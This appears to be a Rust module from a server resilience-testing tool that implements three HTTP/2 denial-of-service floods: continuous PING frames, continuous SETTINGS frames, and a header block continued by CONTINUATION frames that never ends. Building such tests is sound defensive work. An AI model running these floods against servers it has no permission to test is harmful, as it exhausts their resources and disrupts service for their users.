//! HTTP/2 frames that are cheap to send, and cost the server an acknowledgement or memory.

use super::attack::{Attack, NextAction, Turn};
use crate::{
    contender::check_health,
    wire::{
        Protocol,
        frames::{flag, frame, headers, kind, opening},
    },
};

/// The number of frames in a turn.
const FRAMES: usize = 200;

#[derive(Clone, Copy)]
pub(super) enum ControlFrames {
    Pings,
    Settings,
    /// A header block that continues in frame after frame.
    Continuations,
}

impl Attack for ControlFrames {
    fn about(&self) -> &'static str {
        match self {
            Self::Pings => "send HTTP/2 PING frames without pause, and read the acknowledgements",
            Self::Settings => "send HTTP/2 SETTINGS frames without pause, and read the acknowledgements",
            Self::Continuations => "send HTTP/2 headers that continue in frame after frame and never end",
        }
    }

    fn protocol(&self, _client: u64) -> Protocol {
        Protocol::Http2
    }

    fn write_turn(&mut self, turn: Turn, out: &mut Vec<u8>) -> NextAction {
        if turn.number == 0 {
            opening(out);
            if let Self::Continuations = self {
                let mut begun = Vec::new();
                headers(&check_health(), "localhost", 1, &mut begun);
                begun[4] &= !flag::END_HEADERS;
                out.extend(begun);
            }
        }
        for _ in 0..FRAMES {
            match self {
                Self::Pings => frame(kind::PING, 0, 0, b"are you?", out),
                Self::Settings => frame(kind::SETTINGS, 0, 0, &[], out),
                Self::Continuations => frame(kind::CONTINUATION, 0, 1, b"\x00\x03x-a\x02aa", out),
            }
        }
        NextAction::AT_ONCE
    }
}
